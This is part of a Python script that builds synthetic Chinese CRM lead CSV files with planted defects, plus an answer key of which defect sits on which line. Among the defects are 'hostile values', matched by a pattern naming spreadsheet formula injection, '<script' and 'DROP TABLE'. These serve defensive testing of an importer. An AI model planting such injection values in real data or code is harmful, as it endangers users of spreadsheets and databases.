            nonlocal number
            got = self.pick(n, cols, lambda r: (pool is None or r.lead.key in pool) and r.row[MOBILE]
                            and "company_latin" not in r.kinds)
            for r in got:
                r.frozen = True
            number += 1
            return got

        def add(rec, lead, kind, row, gap=1):
            copy = Rec(row, lead, (max(lead.day, rec.order[0]), rec.order[1], gap), {kind}, set(HEADER), frozen=True)
            self.extra.append(copy)

        self.extra: list[Rec] = []
        for r in base(self.want["dup_whole_row"], None, HEADER):
            r.touched |= set(HEADER)                 # nothing may be planted in the original now
            add(r, r.lead, "dup_whole_row", dict(r.row))
        for r in base(self.want["dup_company_and_mobile"], self.back):
            back = dataclasses.replace(self.back[r.lead.key], city=r.lead.city, industry=r.lead.industry)
            row = m.row(back, self.levels, r.row[COMPANY])
            row |= {c: r.row[c] for c in (CONTACT, MOBILE, PHONE, EMAIL, ADDRESS)}
            r.touched |= {COMPANY, MOBILE}
            add(r, back, "dup_company_and_mobile", row)
        for i, r in enumerate(base(self.want["dup_near"], None)):
            row, name, mob = dict(r.row), r.row[COMPANY], r.row[MOBILE]
            forms = [name.replace("有限责任公司", "有限公司") if "有限责任" in name else name.replace("有限公司", "有限责任公司"),
                     name.replace("有限公司", "公司"), name.replace("（", "(").replace("）", ")"),
                     name[:2] + " " + name[2:], name.replace("有限公司", "有限公司。"), name + "（老客户）"]
            forms = [f for f in forms if f != name]
            row[COMPANY] = forms[i % len(forms)]
            row[MOBILE] = [f"+86{mob}", mob, f"{mob[:3]}-{mob[3:7]}-{mob[7:]}", full_width(mob)][i % 4]
            row[SOURCE], row[REMARK] = rng.choice(SOURCES), m.remark(r.lead)
            r.touched |= {COMPANY, MOBILE}
            add(r, r.lead, "dup_near", row, 2)
        for r in base(self.want["dup_company_other_contact"], self.colleague):
            mate = dataclasses.replace(self.colleague[r.lead.key], city=r.lead.city, industry=r.lead.industry)
            row = m.row(mate, self.levels, r.row[COMPANY])
            row[MOBILE] = row[MOBILE] or m.mobile()
            row[ADDRESS] = r.row[ADDRESS]
            r.touched |= {COMPANY, MOBILE}
            add(r, mate, "dup_company_other_contact", row)
        for r in base(self.want["dup_mobile_other_company"], None):
            row = m.row(r.lead, self.levels)
            row |= {CONTACT: r.row[CONTACT], MOBILE: r.row[MOBILE]}
            r.touched |= {COMPANY, MOBILE}
            add(r, r.lead, "dup_mobile_other_company", row, 3)

    def rejects(self):
        rng, w = self.rng, self.want
        bad = {
            "next_date_wrong": (NEXT, BAD_DATES), "entered_date_wrong": (ENTERED, BAD_DATES),
            "owner_unknown_mobile": (OWNER, GHOST_MOBILES), "owner_unknown_name": (OWNER, GHOST_NAMES),
            "email_placeholder": (EMAIL, NO_EMAIL), "source_unknown": (SOURCE, BAD_SOURCES),
            "industry_unknown": (INDUSTRY, BAD_INDUSTRIES), "level_unknown": (LEVEL, BAD_LEVELS),
            "mobile_wrong": (MOBILE, BAD_MOBILES),
            "email_not_email": (EMAIL, [e.format(u=self.m.fake.user_name()) for e in NOT_EMAILS]),
        }
        for a, b in TWO_ERRORS[:w["two_errors"]]:
            (r,) = self.pick(1, (COMPANY, bad[a][0], bad[b][0]))
            for kind in (a, b):
                col, values = bad[kind]
                r.row[col] = rng.choice(values)
                w[kind] -= 1
                r.touched.add(col)
            r.kinds |= {a, b, "two_errors"}
        for kind, (col, values) in bad.items():
            self.set_values(kind, col, values)
        self.set_values("company_missing", COMPANY, [""], lambda r: r.row[CONTACT] and not r.kinds)
        lengths = [256, 300, 412]

        def long_name(n):
            def change(r, i):
                head = r.row[COMPANY].removesuffix("有限公司") + "有限公司（经营范围：" 
                while len(head) < n:
                    head += "、".join(rng.sample([t for v in TRADES.values() for t in v.split()], 9)) + "、"
                r.row[COMPANY] = head[:n - 1] + "）"
            return change
        for i, r in enumerate(self.pick(w["company_too_long"], [COMPANY])):
            long_name(lengths[i])(r, i)
            r.kinds.add("company_too_long")
            r.touched.add(COMPANY)
        self.put("company_255", [COMPANY], long_name(255))

        (few,) = self.pick(1, HEADER)
        few.raw = line([few.row[c] for c in HEADER[:9]])
        few.kinds.add("columns_too_few")
        (many,) = self.pick(1, HEADER)
        many.row[REMARK] = "价格谈过,要两年维保,月底前定"
        many.raw = ",".join(many.row[c] for c in HEADER)
        assert '"' not in line([many.row[c] for c in HEADER if c != REMARK])
        many.kinds.add("columns_too_many")

    def cosmetics(self):
        rng, m = self.rng, self.m
        has = lambda col: (lambda r: bool(r.row[col]))

        def edit(kind, col, f, test=None):
            self.put(kind, [col], lambda r, i: r.row.__setitem__(col, f(r.row[col], i)), test or has(col))

        hostile = HOSTILE if self.column == 0 else [HOSTILE[0], HOSTILE[1], HOSTILE[7]]
        for col, value in hostile:
            (r,) = self.pick(1, [col], lambda r: r.row[col] and "hostile_value" not in r.kinds)
            r.row[col] = value
            r.kinds.add("hostile_value")
            r.touched.add(col)
        edit("mobile_full_width", MOBILE, lambda v, i: full_width(v))
        edit("mobile_plus86", MOBILE, lambda v, i: [f"+86{v}", f"+86 {v}", f"+86-{v[:3]}-{v[3:7]}-{v[7:]}"][i % 3])
        edit("mobile_0086", MOBILE, lambda v, i: [f"0086{v}", f"0086 {v}", f"0086-{v}"][i % 3])
        edit("mobile_spaced", MOBILE, lambda v, i: [f"{v[:3]}-{v[3:7]}-{v[7:]}", f"{v[:3]} {v[3:7]} {v[7:]}"][i % 2])
        edit("mobile_tab", MOBILE, lambda v, i: v + "\t")

        def extension(r, i):
            _, area, digits, _, _ = PLACES[r.lead.city]
            n, x = r.row[PHONE], rng.randint(8001, 8999) if i % 5 == 4 else rng.randint(101, 899)
            n = re.sub(r"\D", "", n)[len(area):]
            r.row[PHONE] = [f"{area}-{n[:-4]} {n[-4:]}转{x}", f"{area}-{n}转{x}", f"{area}-{n}-{x}",
                            f"{area}-{n} ext.{x}", f"{area}-{n[:-4]} {n[-4:]}转{x}分机"][i % 5]
        self.put("phone_extension", [PHONE], extension, has(PHONE))
        edit("phone_full_width", PHONE, lambda v, i: full_width(v))
        edit("company_spaces", COMPANY, lambda v, i: [v + " ", v + "  ", " " + v][i % 3],
             lambda r: "person_as_company" not in r.kinds and r.row[COMPANY])
        edit("contact_spaces", CONTACT, lambda v, i: v + " " * (1 + i % 2))
        edit("option_spaces", SOURCE, lambda v, i: v + " ")
        edit("company_full_width_space", COMPANY,
             lambda v, i: ["\u3000" + v, v + "\u3000", v[:2] + "\u3000" + v[2:]][i % 3])
        edit("contact_full_width_space", CONTACT, lambda v, i: "\u3000".join(v),
             lambda r: len(r.row[CONTACT]) == 2)
        edit("level_letter", LEVEL, lambda v, i: v[0])
        edit("level_half_width", LEVEL, lambda v, i: v.replace("（", "(").replace("）", ")"))
        edit("owner_name", OWNER, lambda v, i: EMPLOYEES[v])
        edit("owner_empty", OWNER, lambda v, i: "")
        missing = self.want["contact_missing"] - sum("contact_missing" in r.kinds for r in self.recs)
        for r in self.pick(missing, [CONTACT], has(CONTACT)):
            r.row[CONTACT] = ""
            r.kinds.add("contact_missing")
            r.touched.add(CONTACT)

        def rewrite(forms):
            def change(r, i):
                parts = m.remark_parts(r.lead)
                r.row[REMARK] = forms[i % len(forms)].format(a=parts[0], b=parts[-1])
            return change
        self.put("remark_line_break", [REMARK], rewrite(LINE_BREAKS))
        self.put("remark_quotes_commas", [REMARK], rewrite(QUOTES))
        if self.column == 0:
            for i, r in enumerate(self.pick(self.want["emoji"], [REMARK, COMPANY], has(REMARK))):
                col = COMPANY if i < 2 else REMARK
                r.row[col] += EMOJI[i % len(EMOJI)]
                r.kinds.add("emoji")
                r.touched.add(col)

    def of_other_file(self, other: list[Rec]):
        """Records of this batch whose company and mobile the other file already has."""
        stock = self.rng.sample([r for r in other if not r.kinds and not r.frozen and r.row[MOBILE]],
                                self.want["dup_of_leads_csv"])
        for r, o in zip(self.pick(len(stock), HEADER), stock):
            r.row |= {c: o.row[c] for c in (COMPANY, CONTACT, MOBILE, PHONE, EMAIL, PROVINCE, CITY, ADDRESS)}
            r.kinds.add("dup_of_leads_csv")
            r.touched |= set(HEADER)
            r.frozen = True

    def finish(self) -> list[Rec]:
        self.recs = sorted(self.recs + self.extra, key=lambda r: r.order)
        return self.recs


REJECT = {k for k, v in KINDS.items() if v[2] == "reject"}
PLAN_ONLY = {"company_polyphonic", "contact_polyphonic", "company_latin", "person_as_company"}


# --------------------------------------------------------------------------- files
def line(cells: list[str]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(cells)    # it quotes what its line end is made of
    return out.getvalue().removesuffix("\r\n")


def text_of(recs: list[Rec]) -> tuple[str, list[int]]:
    """The file's text and the number of the physical line each record starts on."""
    parts, starts, at = [line(HEADER)], [], 2
    for r in recs:
        s = r.raw if r.raw is not None else line([r.row[c] for c in HEADER])
        starts.append(at)
        at += 1 + s.count("\n")
        parts.append(s)
    return "\r\n".join(parts) + "\r\n", starts


# --------------------------------------------------------------------------- reading back
def tidy(s: str) -> str:
    return unicodedata.normalize("NFKC", s).strip()


def company_key(s: str) -> str:
    return re.sub(r"\s", "", tidy(s)).lower()


def mobile_key(s: str) -> str:
    return re.sub(r"^(\+86|0086)", "", re.sub(r"[\s-]", "", tidy(s)))


def date_ok(s: str) -> bool:
    m = re.fullmatch(r"(\d{4})(?:-(\d{1,2})-(\d{1,2})|/(\d{1,2})/(\d{1,2})|年(\d{1,2})月(\d{1,2})日)", tidy(s))
    try:
        return bool(m) and bool(dt.date(*[int(g) for g in m.groups() if g]))
    except ValueError:
        return False


def errors(cells: list[str]) -> set[str]:
    """What a strict import holds against a record, judged by the file's text alone."""
    if len(cells) != len(HEADER):
        return {"columns_too_few" if len(cells) < len(HEADER) else "columns_too_many"}
    r = dict(zip(HEADER, cells))
    t = {c: tidy(v) for c, v in r.items()}
    e = set()
    if not t[COMPANY]:
        e.add("company_missing")
    if len(r[COMPANY].strip()) > 255:
        e.add("company_too_long")
    for c, k in ((NEXT, "next_date_wrong"), (ENTERED, "entered_date_wrong")):
        if t[c] and not date_ok(r[c]):
            e.add(k)
    if t[OWNER] and t[OWNER] not in EMPLOYEES and t[OWNER] not in EMPLOYEES.values():
        e.add("owner_unknown_mobile" if t[OWNER].isdigit() else "owner_unknown_name")
    if t[EMAIL] in NO_EMAIL:
        e.add("email_placeholder")
    elif t[EMAIL] and not re.fullmatch(r"[A-Za-z0-9._+-]+@[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)+", r[EMAIL].strip()):
        e.add("email_not_email")
    if t[SOURCE] and t[SOURCE] not in SOURCES:
        e.add("source_unknown")
    if t[INDUSTRY] and t[INDUSTRY] not in INDUSTRIES:
        e.add("industry_unknown")
    if t[LEVEL] and t[LEVEL] not in [tidy(x) for x in LEVELS] + ["A", "B", "C"]:
        e.add("level_unknown")
    if t[MOBILE] and not re.fullmatch(r"1[3-9]\d{9}", mobile_key(r[MOBILE])):
        e.add("mobile_wrong")
    if len(e) > 1:
        e.add("two_errors")
    return e


def looks(cells: list[str]) -> set[str]:
    """The importable oddities that can be told from the text alone."""
    if len(cells) != len(HEADER):
        return set()
    r = dict(zip(HEADER, cells))
    mob, tel = r[MOBILE], r[PHONE]
    tests = {
        "mobile_full_width": re.search("[０-９]", mob), "mobile_plus86": mob.startswith("+86"),
        "mobile_0086": mob.startswith("0086"), "mobile_spaced": re.fullmatch(r"1\d\d[- ]\d{4}[- ]\d{4}", mob),
        "mobile_tab": "\t" in mob, "phone_extension": re.search(r"转|ext|\d-\d{3,4}$", tel),
        "phone_full_width": re.search("[０-９]", tel), "company_spaces": r[COMPANY] != r[COMPANY].strip(" "),
        "contact_spaces": r[CONTACT] != r[CONTACT].strip(" "), "option_spaces": r[SOURCE] != r[SOURCE].strip(" "),
        "company_full_width_space": "\u3000" in r[COMPANY], "contact_full_width_space": "\u3000" in r[CONTACT],
        "level_letter": r[LEVEL] in list("ABC"), "level_half_width": "(" in r[LEVEL],
        "owner_name": r[OWNER] in EMPLOYEES.values(), "owner_empty": not r[OWNER], "contact_missing": not r[CONTACT],
        "remark_line_break": "\n" in r[REMARK], "remark_quotes_commas": '"' in r[REMARK],
        "emoji": re.search("[\u2b50\U0001f300-\U0001faff]", "".join(cells)),
        "rare_hanzi": re.search("[\u3400-\u4dbf\U00020000-\U0002ffff\U00030000-\U0003ffff]", r[CONTACT]),
        "hostile_value": any(re.match(r"[=@]|\+cmd|\+8613800138000|-2\+3|<script", r[c])
                             or "DROP TABLE" in r[c] for c in (COMPANY, CONTACT, ADDRESS, REMARK)),
        "company_255": len(r[COMPANY]) == 255,
    }
    return {n for n, hit in tests.items() if hit}


def read(path: Path, encoding: str) -> list[list[str]]:
    with open(path, encoding=encoding, newline="") as f:
        rows = list(csv.reader(f, strict=True))
    assert rows[0] == HEADER, rows[0]
    return rows[1:]


def check(name: str, records: list[list[str]], recs: list[Rec], total: int):
    assert len(records) == len(recs) == total, (name, len(records))
    detectable = {k for k, v in KINDS.items() if v[2] != "dup"} - PLAN_ONLY
    dup_looks = {"mobile_full_width", "mobile_plus86", "mobile_0086", "mobile_spaced"}
    for n, (cells, rec) in enumerate(zip(records, recs), 1):
        found, planted = errors(cells) | looks(cells), rec.kinds & detectable
        if rec.kinds & {"dup_near"}:
            found -= dup_looks                       # part of being a near duplicate
        assert found == planted, (name, n, found ^ planted, cells)
    # a record repeats an earlier company or mobile exactly when it was planted to
    repeats = {"dup_whole_row": "row company mobile", "dup_company_and_mobile": "company mobile",
               "dup_company_other_contact": "company", "dup_mobile_other_company": "mobile",
               "dup_near": "mobile"}
    rows, companies, mobiles = set(), set(), set()
    for n, (cells, rec) in enumerate(zip(records, recs), 1):
        row, company, mobile = tuple(cells), company_key(cells[0]), mobile_key(cells[2])
        found = {w for w, hit in (("row", row in rows), ("company", company in companies),
                                  ("mobile", mobile in mobiles)) if hit}
        planted = {w for k in rec.kinds & set(repeats) for w in repeats[k].split()}
        if "dup_near" in rec.kinds:              # a space or a bracket is not another name
            found.discard("company")
        if "mobile_wrong" in rec.kinds:          # 1.38123E+10 comes more than once
            found.discard("mobile")
        assert found == planted, (name, n, found, planted, cells)
        rows.add(row)
        companies |= {company} - {""}
        mobiles |= {mobile} - {""}


POLICIES = [
    ("strict, no duplicate rule", ()),
    ("strict, company unique", (COMPANY,)),
    ("strict, mobile unique", (MOBILE,)),
    ("strict, company and mobile each unique", (COMPANY, MOBILE)),
]


def accepted(records, unique, seen=None) -> int:
    seen = seen if seen is not None else {COMPANY: set(), MOBILE: set()}
    ok = 0
    for cells in records:
        if errors(cells):
            continue
        keys = {COMPANY: company_key(cells[0]), MOBILE: mobile_key(cells[2])}
        if any(keys[u] and keys[u] in seen[u] for u in unique):
            continue
        for u, k in keys.items():
            seen[u].add(k)
        ok += 1
    return ok


def main(out: Path):
    first = [l for i in range(5) for l in
             world(20250101 + i, dt.date(2025, 1, 2) + dt.timedelta(days=30 * i), 800)]
    maker = Maker(20250701)
    big = Batch(maker, 0, first, 2000)
    second = world(20250601, dt.date(2025, 6, 1), 800)
    maker.rng.seed(20250702)
    maker.fake.seed_instance(20250702)
    small = Batch(maker, 1, second, 300)         # the same Maker: no company or number twice by chance
    for batch, seed in ((big, 20250703), (small, 20250704)):
        maker.rng.seed(seed)
        maker.fake.seed_instance(seed)
        batch.people()
        batch.names()
        batch.duplicates()
        if batch is small:
            batch.of_other_file(big.recs)
        batch.rejects()
        batch.cosmetics()
        batch.finish()

    files = [("leads.csv", "utf-8-sig", big, 2000), ("leads_gbk.csv", "gbk", small, 300)]
    key = ["file,record,line,defect"]
    parsed = {}
    for name, encoding, batch, total in files:
        text, starts = text_of(batch.recs)
        (out / name).write_bytes(text.encode(encoding))
        parsed[name] = read(out / name, encoding)
        check(name, parsed[name], batch.recs, total)
        for n, (rec, at) in enumerate(zip(batch.recs, starts), 1):
            key += [f"{name},{n},{at},{k}" for k in KINDS if k in rec.kinds]
    (out / "leads_defects.csv").write_bytes(("\n".join(key) + "\n").encode())

    known = {mobile_key(cells[2]) for cells in parsed["leads.csv"]} - {""}
    for cells, rec in zip(parsed["leads_gbk.csv"], small.recs):
        if "mobile_wrong" not in rec.kinds:
            assert (mobile_key(cells[2]) in known) == ("dup_of_leads_csv" in rec.kinds), cells
    counts = [Counter(k for r in b.recs for k in r.kinds) for _, _, b, _ in files]
    for k, v in KINDS.items():
        assert (counts[0][k], counts[1][k]) == v[:2], (k, counts[0][k], counts[1][k], v[:2])
    print("| defect | leads.csv | leads_gbk.csv | effect | what |\n|---|---:|---:|---|---|")
    for k, (a, b, effect, what) in KINDS.items():
        print(f"| `{k}` | {a} | {b} | {effect} | {what} |")
    one, two = parsed["leads.csv"], parsed["leads_gbk.csv"]
    print("\n| import rule | leads.csv | leads_gbk.csv alone | leads_gbk.csv after leads.csv |\n|---|---:|---:|---:|")
    for label, unique in POLICIES:
        seen = {COMPANY: set(), MOBILE: set()}
        a, b = accepted(one, unique, seen), accepted(two, unique)
        c = accepted(two, unique, seen)
        print(f"| {label} | {a} ({a / len(one):.1%}) | {b} ({b / len(two):.1%}) | {c} ({c / len(two):.1%}) |")
    print("\n| date notation | leads.csv 下次联系日期 | leads.csv 录入日期 | leads_gbk.csv 下次联系日期 | leads_gbk.csv 录入日期 |"
          "\n|---|---:|---:|---:|---:|")
    forms = [("2025-03-07", r"\d{4}-\d\d-\d\d"), ("2025-3-7 (a part without leading zero)", r"\d{4}-\d{1,2}-\d{1,2}"),
             ("2025/03/07", r"\d{4}/\d{1,2}/\d{1,2}"), ("2025年3月7日", r"\d{4}年.*日"), ("empty", ""), ("no date", None)]
    tally = []
    for rows in (one, two):
        for c in (NEXT, ENTERED):
            t: Counter[str] = Counter()
            for cells in rows:
                if len(cells) != len(HEADER):
                    continue
                v = cells[HEADER.index(c)]
                t["no date" if v and not date_ok(v) else
                  next(n for n, p in forms if p is not None and re.fullmatch(p, v))] += 1
            tally.append(t)
    for n, _ in forms:
        print(f"| {n} | " + " | ".join(str(t[n]) for t in tally) + " |")


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent)
